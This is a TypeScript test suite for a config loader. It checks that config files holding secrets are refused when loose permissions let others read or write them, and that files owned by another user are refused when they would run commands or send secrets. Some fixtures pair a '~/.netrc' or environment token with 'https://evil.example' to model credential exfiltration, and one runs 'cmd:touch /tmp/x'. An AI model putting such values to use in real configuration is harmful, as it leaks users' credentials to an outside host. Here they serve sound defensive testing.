import { chown, rm, stat } from 'node:fs/promises';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/index.js';
import type { ConfigInput } from '../../src/config/index.js';
import { here, makeRoom, refusal, vendors, type Room } from './helpers.js';

let room: Room;
beforeEach(async () => {
  room = await makeRoom();
});
afterEach(async () => {
  await rm(room.root, { recursive: true });
});

const withVendor = (text: string): string => `profiles: {acme: {vendors: {${text}}}}`;

describe('a file that holds a secret', () => {
  const holding = [
    ['a literal', withVendor('sales-q: {token: literal}'), 'a secret (profiles.acme.vendors.sales-q.token)'],
    [
      'a command',
      withVendor('sales-q: {token: "cmd:pass x"}'),
      'a command (profiles.acme.vendors.sales-q.token)',
    ],
    [
      'a literal of an unknown vendor',
      withVendor('mmdial: {password: literal}'),
      'a secret (profiles.acme.vendors.mmdial.password)',
    ],
    [
      'a command of an unknown vendor',
      withVendor('mmdial: {deep: {x: "cmd:y"}}'),
      'a command (profiles.acme.vendors.mmdial.deep.x)',
    ],
    [
      'a ledger password',
      'profiles: {acme: {ledger: "postgres://u:p@db/x"}}',
      'a secret (profiles.acme.ledger)',
    ],
    ['a ledger password for all', 'ledger: "postgres://u@db/x?password=p"', 'a secret (ledger)'],
  ] as const;

  it.each(holding)('%s: is refused where others can read or write it', async (_what, text, shown) => {
    for (const mode of [0o644, 0o640, 0o604, 0o620, 0o602, 0o660]) {
      const file = await room.write(here, text, mode);
      const error = await refusal(() => loadConfig(room.input(), vendors));
      expect(error).toMatchObject({ code: 'config.permissions', exit: 6, hint: `chmod 600 ${file}` });
      expect(error.message).toContain(shown);
      expect(error.message).toContain(`mode 0${mode.toString(8)}`);
    }
    for (const mode of [0o600, 0o400, 0o700]) {
      await room.write(here, text, mode);
      expect((await loadConfig(room.input(), vendors)).path).not.toBeNull();
    }
  });

  it('is refused too where the user named it', async () => {
    const file = await room.write('named', holding[0][1], 0o644);
    const error = await refusal(() => loadConfig(room.input({ flags: { config: file } }), vendors));
    expect(error.code).toBe('config.permissions');
  });

  it.each([
    withVendor('sales-q: {token: "env:T"}'),
    withVendor('sales-q: {token: "file:t"}'),
    withVendor('sales-q: {token: "keychain:t"}'),
    withVendor('sales-q: {account: cmd-like}, mmdial: {username: ops, password: "env:P"}'),
    withVendor('mixed: {type: literal}'),
    'ledger: "postgres://u@db/x"',
  ])('%s holds none and may be read by all', async (text) => {
    await room.write(here, text, 0o644);
    expect((await loadConfig(room.input(), vendors)).path).not.toBeNull();
  });

  it('is not judged by its mode on systems without users', async () => {
    await room.write(here, holding[0][1], 0o644);
    expect((await loadConfig(room.input({ uid: null }), vendors)).path).not.toBeNull();
  });
});

describe('a file of another user', () => {
  /** Makes the file somebody else's: by giving it away as root, else by being somebody else. */
  async function foreign(text: string): Promise<{ file: string; input: ConfigInput }> {
    const file = await room.write(here, text);
    if (process.geteuid?.() === 0) await chown(file, 4242, 4242);
    return { file, input: room.input({ uid: (await stat(file)).uid + 1 }) };
  }

  it.each([
    ['would run a command', withVendor('sales-q: {token: "cmd:touch /tmp/x"}')],
    ['would send a secret', withVendor('sales-q: {token: "env:T", url: "https://evil.example"}')],
    ['would send a secret', withVendor('sales-q: {token: "file:~/.netrc", url: "https://evil.example"}')],
  ])('that %s is not used where it was found', async (what, text) => {
    const { file, input } = await foreign(text);
    const error = await refusal(() => loadConfig(input, vendors));
    expect(error).toMatchObject({ code: 'config.foreign-owner', exit: 6 });
    expect(error.message).toContain(what);
    expect(error.hint).toContain(`--config ${file}`);
    const named = await loadConfig({ ...input, flags: { config: file } }, vendors);
    expect(named.path).toBe(file);
  });

  it('that can do neither is used', async () => {
    const { input } = await foreign(withVendor('sales-q: {token: "env:T"}'));
    expect((await loadConfig(input, vendors)).path).not.toBeNull();
  });

  it.runIf(process.geteuid?.() === 0)('is used where the other user is root', async () => {
    await room.write(here, withVendor('sales-q: {token: "cmd:true"}'));
    expect((await loadConfig(room.input({ uid: 4242 }), vendors)).path).not.toBeNull();
  });
});
